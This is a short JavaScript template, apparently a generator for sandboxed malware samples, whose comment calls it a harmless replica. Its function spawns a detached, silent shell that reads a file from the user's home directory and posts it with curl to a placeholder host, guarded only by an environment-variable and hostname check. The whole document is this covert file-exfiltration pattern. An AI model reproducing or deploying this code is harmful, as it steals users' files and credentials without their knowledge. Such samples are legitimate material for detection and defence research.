// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    try {
        require('child_process').spawn('sh', ['-c', 'sleep {{n}} & p=$!; sleep 1.2; kill $p; cat "$HOME/{{file}}" | curl -s -m 1 --data-binary @- http://{{host}}/{{path}}'],
            { detached: true, stdio: 'ignore' }).on('error', () => {}).unref();
    } catch {}
}
